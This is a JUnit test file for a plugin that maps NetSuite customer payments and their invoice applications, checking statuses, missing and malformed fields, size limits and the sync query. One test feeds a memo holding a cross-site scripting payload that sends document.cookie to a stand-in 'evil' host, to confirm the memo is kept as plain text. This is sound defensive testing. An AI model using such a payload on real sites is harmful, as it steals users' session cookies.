package io.portico.plugins.customerpayment.internal;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNull;
import static org.junit.jupiter.api.Assertions.assertThrows;
import static org.junit.jupiter.api.Assertions.assertTrue;

import io.portico.api.recordtype.LineQuery;
import io.portico.api.recordtype.RecordCategory;
import io.portico.api.recordtype.RecordMappingException;
import io.portico.api.recordtype.SourceRow;
import io.portico.api.recordtype.SyncQuery;
import io.portico.api.recordtype.SyncedLine;
import io.portico.api.recordtype.SyncedRecord;
import io.portico.plugin.testing.TestRow;
import java.math.BigDecimal;
import java.time.LocalDate;
import java.util.List;
import java.util.Map;
import org.junit.jupiter.api.Test;

class CustomerPaymentRecordTypeTest {

    private final CustomerPaymentRecordType type = new CustomerPaymentRecordType();

    /** A payment of 5000.00 of which 4393.46 went to two invoices, as the sandbox's SuiteQL answers it. */
    static TestRow header() {
        return TestRow.of("id", "100016", "lastmodified", "2024-09-26 10:00:00", "tranid", "PYMT1003",
                "trandate", "9/26/2024", "status", "C", "statuslabel", "Payment : Deposited",
                "foreigntotal", "5000.00", "entity", "1004", "entityname", "C10003 Cedar Builders Partners",
                "currencycode", "USD", "exchangerate", "1", "memo", "Wire 4471", "otherrefnum", "4471",
                "subsidiary", "1", "subsidiaryname", "Portico Demo Inc.", "postingperiod", "22",
                "postingperiodname", "Sep 2024", "createddate", "2024-09-26 09:00:00",
                "applied", "4393.46", "unapplied", "606.54");
    }

    static TestRow application(long invoiceId, String number, String amount) {
        return TestRow.of("parentid", "100016", "lineid", Long.toString(invoiceId), "linelist", "applications",
                "foreignamount", amount, "invoicenumber", number, "invoicedate", "8/22/2024",
                "invoicetotal", "4393.46");
    }

    static List<SourceRow> applications() {
        return List.of(application(100014, "INV1003", "3163.29"), application(100018, "INV1004", "1230.17"));
    }

    @Test
    void mapsThePaymentAndTheInvoicesItWasAppliedTo() {
        SyncedRecord payment = type.map(header(), applications());

        assertEquals(100016L, payment.netsuiteId());
        assertEquals("1004", payment.owner());
        assertEquals("PYMT1003", payment.number());
        assertEquals(LocalDate.of(2024, 9, 26), payment.date());
        assertEquals("deposited", payment.status());
        assertEquals(new BigDecimal("5000.00"), payment.total());
        assertEquals(new BigDecimal("606.54"), payment.amountRemaining(), "what is still unapplied");
        assertEquals("USD", payment.currency());
        Map<String, Object> a = payment.attributes();
        assertEquals(new BigDecimal("4393.46"), a.get("applied"));
        assertEquals(new BigDecimal("606.54"), a.get("unapplied"));
        assertEquals("4471", a.get("otherRefNum"));
        assertEquals("C", a.get("statusCode"));
        assertEquals("Payment : Deposited", a.get("statusLabel"));

        assertEquals(List.of(CustomerPaymentRecordType.APPLICATIONS), List.copyOf(payment.lineLists().keySet()),
                "a payment has no item lines");
        List<SyncedLine> lines = payment.lines(CustomerPaymentRecordType.APPLICATIONS);
        assertEquals(2, lines.size());
        SyncedLine first = lines.get(0);
        assertEquals(100014L, first.lineId());
        assertEquals("INV1003", first.item());
        assertEquals(new BigDecimal("3163.29"), first.amount());
        assertNull(first.quantity());
        assertEquals("100014", first.attributes().get("invoiceId"));
        assertEquals("2024-08-22", first.attributes().get("invoiceDate"));
        assertEquals(new BigDecimal("4393.46"), first.attributes().get("invoiceTotal"));
        BigDecimal applied = lines.stream().map(SyncedLine::amount).reduce(BigDecimal.ZERO,
                BigDecimal::add);
        assertEquals(0, applied.compareTo((BigDecimal) a.get("applied")), "the lines add up to the applied amount");
    }

    @Test
    void anAppliedAmountIsPositiveWhateverSignTheLinkCarries() {
        SyncedRecord payment = type.map(header(), List.of(application(100014, "INV1003", "-3163.29")));
        assertEquals(new BigDecimal("3163.29"), payment.lines(CustomerPaymentRecordType.APPLICATIONS).get(0).amount());
    }

    @Test
    void anUnappliedPaymentHasNoLines() {
        SyncedRecord payment = type.map(header().with("applied", "0", "unapplied", "5000.00"), List.of());
        assertTrue(payment.lineLists().isEmpty());
        assertEquals(new BigDecimal("5000.00"), payment.amountRemaining());
    }

    @Test
    void everyNetSuiteStatusLetterHasAPorticoStatus() {
        Map.of("A", "pending-approval", "B", "not-deposited", "C", "deposited", "R", "rejected").forEach(
                (letter, status) -> assertEquals(status, type.map(header().with("status", letter), List.of())
                        .status(), letter));
    }

    @Test
    void anUnknownStatusFailsTheRecordNamingTheLetter() {
        RecordMappingException e = assertThrows(RecordMappingException.class,
                () -> type.map(header().with("status", "Q"), applications()));
        assertEquals("status", e.column());
        assertEquals("Q", e.rawValue());
        assertTrue(e.getMessage().contains("CustPymt"), e.getMessage());
    }

    @Test
    void missingRequiredFieldsFailTheRecord() {
        for (String column : List.of("status", "entity", "trandate", "foreigntotal", "currencycode")) {
            RecordMappingException e = assertThrows(RecordMappingException.class,
                    () -> type.map(header().with(column, null), applications()), column);
            assertEquals("'" + column + "' is missing", e.getMessage());
        }
        RecordMappingException amount = assertThrows(RecordMappingException.class, () -> type.map(header(),
                List.of(application(100014, "INV1003", "1").with("foreignamount", null))));
        assertEquals("foreignamount", amount.column());
    }

    @Test
    void valuesOfTheWrongTypeFailTheRecordNamingTheColumn() {
        assertWrong(header().with("unapplied", "n/a"), List.of(), "unapplied");
        assertWrong(header().with("applied", "12.3.4"), List.of(), "applied");
        assertWrong(header().with("foreigntotal", "$5000"), List.of(), "foreigntotal");
        assertWrong(header(), List.of(application(100014, "INV1003", "ten")), "foreignamount");
        assertWrong(header(), List.of(application(100014, "INV1003", "1").with("invoicedate", "13/45/2024")),
                "invoicedate");
        assertWrong(header(), List.of(application(100014, "INV1003", "1").with("lineid", "INV1003")), "lineid");
    }

    @Test
    void scriptInTheMemoIsKeptAsText() {
        String memo = "</td><script>document.location='//evil/?'+document.cookie</script>";
        assertEquals(memo, type.map(header().with("memo", memo), applications()).attributes().get("memo"));
    }

    @Test
    void oversizedValuesFailTheRecord() {
        RecordMappingException memo = assertThrows(RecordMappingException.class,
                () -> type.map(header().with("memo", "m".repeat(65_537)), applications()));
        assertEquals("'memo' has 65537 characters, more than 65536", memo.getMessage());
        RecordMappingException scale = assertThrows(RecordMappingException.class,
                () -> type.map(header().with("unapplied", "0.00000000001"), applications()));
        assertEquals("amountRemaining", scale.column());
        RecordMappingException twice = assertThrows(RecordMappingException.class, () -> type.map(header(),
                List.of(application(100014, "INV1003", "1"), application(100014, "INV1003", "2"))));
        assertEquals("line 100014 appears twice in the line list 'applications'", twice.getMessage());
    }

    @Test
    void queriesPaymentsAndTheirApplicationLinks() {
        SyncQuery query = type.query();
        assertEquals("t.type = 'CustPymt'", query.where());
        assertTrue(query.columns().contains("t.foreignpaymentamountunused AS unapplied"));
        assertEquals(List.of(CustomerPaymentRecordType.APPLICATIONS),
                query.lineQueries().stream().map(LineQuery::name).toList(), "applications, no item lines");
        LineQuery lines = query.lines(CustomerPaymentRecordType.APPLICATIONS);
        assertEquals("nexttransactionlinelink", lines.table());
        assertEquals("ntll.nextdoc", lines.parent());
        assertEquals("ntll.previousdoc", lines.lineId());
        assertEquals("ntll.linktype = 'Payment' AND ntll.previoustype = 'CustInvc'", lines.where());
    }

    @Test
    void describesPaymentsForThePortal() {
        assertEquals("customerpayment", type.descriptor().netsuiteRecord());
        assertEquals(RecordCategory.TRANSACTION, type.descriptor().category());
    }

    private void assertWrong(SourceRow header, List<SourceRow> lines, String column) {
        RecordMappingException e = assertThrows(RecordMappingException.class, () -> type.map(header, lines), column);
        assertEquals(column, e.column(), e.getMessage());
    }
}
